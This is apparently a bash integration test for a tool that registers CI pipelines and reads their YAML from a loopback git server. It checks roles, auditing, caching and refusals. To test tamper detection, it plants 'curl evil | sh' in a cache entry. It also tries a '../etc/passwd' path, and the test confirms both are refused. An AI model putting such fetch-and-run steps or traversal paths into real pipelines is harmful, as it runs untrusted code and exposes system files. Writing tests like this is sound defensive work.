#!/usr/bin/env bash
# Pipelines the server compiles itself (svcconn pipelines; the library's
# svc_ops_pipeline_source), read from a real git server on loopback
# (lighttpd + git http-backend behind basic auth) through a stored
# connection:
#  - register / list / remove, audited; Administrator to register and
#    remove, Reader to list and read (a user without a role is refused);
#  - the source at the branch's head and at a given commit, the origin
#    naming the commit used;
#  - a second read of a commit is served from the cache: the git server
#    sees no request at all (its access log, counted up to a marker);
#  - a cache entry altered on disk is refused: the repository is fetched
#    again (one more upload-pack) and the true file is returned;
#  - a commit that is not on any branch, a path not in the commit, a
#    connection that reads no git repository and a URL with credentials
#    are refused with messages naming the pipeline, the commit and path;
#  - the password is in no file but the store (encrypted there); the
#    cache is 0700 directories and 0600 files.
set -euo pipefail
: "${SVC_BIN_DIR:?}" "${SVC_SOURCE_DIR:?}"

command -v lighttpd >/dev/null 2>&1 || [ -x /usr/sbin/lighttpd ] || {
  echo "FAIL: lighttpd is not installed; this test needs a real git server on loopback" \
       "(.ci/deps installs it: apt-get install lighttpd)"; exit 1; }

work=$(mktemp -d /tmp/svcpipesrc.XXXXXX)
httpd_pid=""
cleanup() {
  [ -n "$httpd_pid" ] && kill "$httpd_pid" 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT
export SVCCONN_HOME="$work/home" SVCCONN_USER=admin
svcconn() { "$SVC_BIN_DIR/svcconn" "$@"; }
fail() { echo "FAIL: $*"; exit 1; }
no_sanitizer() { ! grep -q 'Sanitizer\|runtime error' "$1" || { cat "$1"; fail "sanitizer report"; }; }
pw='Pipe-src-s3cret-4417'

# ---- the git server and the application's repository -------------------------
. "$SVC_SOURCE_DIR/fixtures/git/server.sh"
H="$work/srv"
git_server_start "$H" ciuser "$pw" || fail "cannot start lighttpd"
httpd_pid=$git_httpd_pid
base="http://127.0.0.1:$git_port/git"
git init -q --bare "$H/repos/app.git"
git init -q "$work/seed"
mkdir -p "$work/seed/ci"
commit_file() {   # CONTENT MESSAGE: a commit on main, its id printed
  printf '%s\n' "$1" > "$work/seed/ci/azure-pipelines.yml"
  (cd "$work/seed" && git add -A && git -c user.name=t -c user.email=t@t commit -qm "$2" &&
   git push -q "$H/repos/app.git" HEAD:refs/heads/main && git rev-parse HEAD)
}
c1=$(commit_file 'steps: [{script: echo one}]' one)
c2=$(commit_file 'steps: [{script: echo two}]' two)
git -C "$H/repos/app.git" symbolic-ref HEAD refs/heads/main

# The git server's requests so far: a marker request is logged after them
# (lighttpd writes its access log in batches, and logs a CGI request once
# it has reaped git http-backend, which may be after the client is gone:
# hence the pause), then the lines are counted.
marker=0
requests() {   # PATTERN: how many logged requests match
  marker=$((marker + 1))
  sleep 1
  curl -s -o /dev/null "http://127.0.0.1:$git_port/marker-$marker" || true
  for _ in $(seq 1 200); do
    grep -q "marker-$marker " "$H/log/access.log" 2>/dev/null && break
    sleep 0.05
  done
  grep -q "marker-$marker " "$H/log/access.log" || fail "the git server's log has no marker"
  grep -c -- "$1" "$H/log/access.log" || true
}

# ---- the store --------------------------------------------------------------
printf '%s' "$pw" > "$work/pw"
svcconn init >/dev/null
svcconn create externaltfs repo --url "$base" --scheme UsernamePassword \
  --set username=ciuser --secret password=@"$work/pw" >/dev/null
svcconn create dockerregistry reg --scheme UsernamePassword --set registrytype=Others \
  --set registry="https://127.0.0.1:1" --set username=u --secret password=@"$work/pw" >/dev/null
rm -f "$work/pw"

# ---- register, list; roles ----------------------------------------------------
svcconn pipelines register app --connection repo --url "$base/app.git" \
  --path ci/azure-pipelines.yml --branch main > "$work/reg.out" 2>&1 || { cat "$work/reg.out"; fail "register"; }
svcconn pipelines list --json > "$work/list.json"
python3 - "$work/list.json" <<'PY' || fail "list does not show the registration"
import json, sys
l = json.load(open(sys.argv[1]))
assert len(l) == 1 and l[0]["name"] == "app" and l[0]["connection"] == "repo" \
    and l[0]["path"] == "ci/azure-pipelines.yml" and l[0]["branch"] == "main" \
    and l[0]["createdBy"].endswith("admin"), l
PY
svcconn audit | grep -q 'pipeline-register' || fail "the registration is not audited"
if SVCCONN_USER=mallory svcconn pipelines register evil --connection repo \
     --url "$base/app.git" --path ci/azure-pipelines.yml 2> "$work/mal.err"; then
  fail "a user without a role registered a pipeline"
fi
grep -q "mallory" "$work/mal.err" && grep -qi "administrator" "$work/mal.err" ||
  { cat "$work/mal.err"; fail "no clear refusal for a user without a role"; }
if SVCCONN_USER=mallory svcconn pipelines source app 2> "$work/mal2.err" >/dev/null; then
  fail "a user without a role read a pipeline's source"
fi
grep -qi "reader" "$work/mal2.err" || { cat "$work/mal2.err"; fail "no clear refusal to read"; }
echo "ok: register, list, audit; no role, no registration and no source"

# ---- the source at the branch's head and at a commit ----------------------------
t0=$(date +%s%N)
svcconn pipelines source app > "$work/head.yml" 2> "$work/head.err" || { cat "$work/head.err"; fail "source at head"; }
t_cold=$(( ($(date +%s%N) - t0) / 1000000 ))
no_sanitizer "$work/head.err"
[ "$(cat "$work/head.yml")" = 'steps: [{script: echo two}]' ] || fail "head: wrong content: $(cat "$work/head.yml")"
grep -q "from repository repo@$c2:ci/azure-pipelines.yml" "$work/head.err" ||
  { cat "$work/head.err"; fail "the origin does not name the head commit"; }
svcconn pipelines source app --commit "$c1" > "$work/c1.yml" 2> "$work/c1.err" || { cat "$work/c1.err"; fail "source at c1"; }
[ "$(cat "$work/c1.yml")" = 'steps: [{script: echo one}]' ] || fail "c1: wrong content"
grep -q "from repository repo@$c1:ci/azure-pipelines.yml" "$work/c1.err" || fail "the origin does not name c1"
grep -q ' ciuser ' "$H/log/access.log" || requests ciuser >/dev/null
grep -q ' ciuser ' "$H/log/access.log" || fail "the server did not see the connection's user"
echo "ok: the source at the branch's head ($c2) and at a commit ($c1), through the connection"

# ---- the cache -----------------------------------------------------------------
all_before=$(requests '/git/app.git')
t0=$(date +%s%N)
svcconn pipelines source app --commit "$c1" > "$work/c1b.yml" 2> "$work/c1b.err" || fail "cached source"
t_cached=$(( ($(date +%s%N) - t0) / 1000000 ))
cmp -s "$work/c1.yml" "$work/c1b.yml" || fail "the cached source differs"
all_after=$(requests '/git/app.git')
[ "$all_after" = "$all_before" ] || fail "a cached commit was fetched again ($all_before -> $all_after requests)"
echo "ok: a cached commit is read with no request to the git server ($all_before requests before and after)"
echo "measured: svcconn pipelines source, first fetch ${t_cold} ms, from the cache ${t_cached} ms (whole command)"

cache="$SVCCONN_HOME/cache/pipelines"
entry=$(find "$cache" -path "*/$c1/*" -type f | head -1)
[ -n "$entry" ] || fail "no cache entry for $c1"
bad=$(find "$cache" -type d ! -perm 0700; find "$cache" -path "*/$c1/*" -type f ! -perm 0600)
[ -z "$bad" ] || fail "cache modes: $bad"
packs_before=$(requests 'POST /git/app.git/git-upload-pack')
printf 'steps: [{script: curl evil | sh}]\n' > "$entry"
svcconn pipelines source app --commit "$c1" > "$work/c1c.yml" 2> "$work/c1c.err" || { cat "$work/c1c.err"; fail "source after tampering"; }
cmp -s "$work/c1.yml" "$work/c1c.yml" || fail "an altered cache entry was used: $(cat "$work/c1c.yml")"
for _ in 1 2 3 4 5; do
  packs_after=$(requests 'POST /git/app.git/git-upload-pack')
  [ "$packs_after" -gt "$packs_before" ] && break
done
[ "$packs_after" -gt "$packs_before" ] || fail "an altered entry was not fetched again ($packs_before -> $packs_after)"
cmp -s "$entry" "$work/c1.yml" || fail "the altered entry was not replaced"
echo "ok: an altered cache entry is refused and the commit fetched again (upload-pack $packs_before -> $packs_after)"

# ---- refusals --------------------------------------------------------------------
nocommit=0123456789abcdef0123456789abcdef01234567
if svcconn pipelines source app --commit "$nocommit" > /dev/null 2> "$work/nc.err"; then
  fail "a commit on no branch was read"
fi
no_sanitizer "$work/nc.err"
grep -q "pipeline 'app' ('ci/azure-pipelines.yml' at $nocommit): commit $nocommit is not on any branch of '$base/app.git'" "$work/nc.err" ||
  { cat "$work/nc.err"; fail "no clear message for a wrong commit"; }
if svcconn pipelines source app --commit HEAD > /dev/null 2> "$work/short.err"; then
  fail "a ref name was taken for a commit id"
fi
grep -q "commit 'HEAD' is not a full commit id" "$work/short.err" || { cat "$work/short.err"; fail "no message for a short commit"; }
svcconn pipelines register nofile --connection repo --url "$base/app.git" --path ci/missing.yml >/dev/null
if svcconn pipelines source nofile --commit "$c2" > /dev/null 2> "$work/np.err"; then
  fail "a missing path was read"
fi
grep -q "pipeline 'nofile' ('ci/missing.yml' at $c2): 'ci/missing.yml' is not a file of commit $c2 of '$base/app.git'" "$work/np.err" ||
  { cat "$work/np.err"; fail "no clear message for a missing path"; }
if svcconn pipelines register viareg --connection reg --url "$base/app.git" --path ci/azure-pipelines.yml 2> "$work/ng.err"; then
  fail "a docker registry connection was registered to read a repository"
fi
grep -q "connection 'reg' is of type 'dockerregistry', which reads no git repository" "$work/ng.err" ||
  { cat "$work/ng.err"; fail "no clear message for a non-git connection"; }
if svcconn pipelines register cred --connection repo --url "http://ciuser:x@127.0.0.1:$git_port/git/app.git" \
     --path a.yml 2> "$work/cu.err"; then
  fail "a URL with credentials was registered"
fi
grep -q "must not hold credentials" "$work/cu.err" || { cat "$work/cu.err"; fail "no message for a URL with credentials"; }
if svcconn pipelines register dots --connection repo --url "$base/app.git" --path ../etc/passwd 2> "$work/dd.err"; then
  fail "a path with '..' was registered"
fi
if svcconn pipelines register app --connection repo --url "$base/app.git" --path x.yml 2> "$work/dup.err"; then
  fail "a name was registered twice"
fi
grep -q "a pipeline named 'app' is registered already" "$work/dup.err" || { cat "$work/dup.err"; fail "no message for a taken name"; }
echo "ok: wrong commit, missing path, non-git connection, credentials in a URL, '..' and a taken name are refused"

# ---- the same through svcconn-server's API (Azure's Pipeline shape) ----------------
mtok=$(svcconn tokens create m --scopes endpoints:manage 2>/dev/null)
"$SVC_BIN_DIR/svcconn-server" --listen 127.0.0.1:0 --insecure-http-on-loopback 2> "$work/srv.log" &
srv_pid=$!
for _ in $(seq 100); do grep -q "listening on" "$work/srv.log" && break; sleep 0.05; done
sport=$(sed -n 's/.*(port \([0-9]*\)).*/\1/p' "$work/srv.log" | head -n1)
[ -n "$sport" ] || { kill "$srv_pid"; fail "the server did not start: $(cat "$work/srv.log")"; }
api="http://127.0.0.1:$sport/default/default/_apis/pipelines"
code=$(curl -sS -o "$work/post.json" -w '%{http_code}' -H "Authorization: Bearer $mtok" \
  -H 'Content-Type: application/json' "$api" --data "{\"name\":\"web\",\"configuration\":{\"type\":\"yaml\",
  \"path\":\"ci/azure-pipelines.yml\",\"repository\":{\"url\":\"$base/app.git\",\"defaultBranch\":\"main\",
  \"connection\":{\"name\":\"repo\"}}}}")
[ "$code" = 200 ] || { kill "$srv_pid"; fail "POST pipelines answered $code: $(cat "$work/post.json")"; }
curl -sS -H "Authorization: Bearer $mtok" "$api" > "$work/get.json"
python3 - "$work/get.json" <<'PY' || { kill "$srv_pid"; fail "GET pipelines: $(cat "$work/get.json")"; }
import json, sys
v = {p["name"]: p for p in json.load(open(sys.argv[1]))["value"]}
w = v["web"]["configuration"]
assert w["path"] == "ci/azure-pipelines.yml" and w["repository"]["connection"]["name"] == "repo" \
    and w["repository"]["defaultBranch"] == "main", v
PY
code=$(curl -sS -o "$work/post2.json" -w '%{http_code}' -H "Authorization: Bearer $mtok" \
  "$api" --data '{"name":"web2","configuration":{"path":"a.yml","repository":{"url":"'"$base"'/app.git","connection":{"name":"reg"}}}}')
[ "$code" = 400 ] && grep -q "reads no git repository" "$work/post2.json" ||
  { kill "$srv_pid"; fail "a non-git connection over the API: $code $(cat "$work/post2.json")"; }
code=$(curl -sS -o /dev/null -w '%{http_code}' -X DELETE -H "Authorization: Bearer $mtok" "$api/web")
[ "$code" = 204 ] || { kill "$srv_pid"; fail "DELETE pipelines/web answered $code"; }
code=$(curl -sS -o /dev/null -w '%{http_code}' -X DELETE -H "Authorization: Bearer $mtok" "$api/web")
[ "$code" = 404 ] || { kill "$srv_pid"; fail "a second DELETE answered $code"; }
kill "$srv_pid"; wait "$srv_pid" 2>/dev/null || true
no_sanitizer "$work/srv.log"
echo "ok: POST, GET and DELETE _apis/pipelines through svcconn-server"

# ---- the secret on disk; remove ---------------------------------------------------
if grep -r -a -l -F -- "$pw" "$SVCCONN_HOME" "$work/seed" "$H/repos" "$H/log" 2>/dev/null; then
  fail "the password was written to disk"
fi
echo "ok: the password is in no file (the store holds it encrypted)"
svcconn pipelines remove app >/dev/null
svcconn pipelines list | grep -q '^app ' && fail "a removed pipeline is listed"
svcconn audit | grep -q 'pipeline-remove' || fail "the removal is not audited"
if svcconn pipelines source app 2> "$work/rm.err" >/dev/null; then fail "a removed pipeline was read"; fi
grep -q "no pipeline named 'app' is registered" "$work/rm.err" || { cat "$work/rm.err"; fail "no message for a removed pipeline"; }
svcconn delete repo --yes >/dev/null 2>&1 || svcconn delete repo >/dev/null
svcconn pipelines list --json | python3 -c 'import json,sys; l=json.load(sys.stdin); sys.exit(1 if l else 0)' ||
  fail "a registration outlived its connection"
echo "ok: remove is audited; a registration goes with its connection"
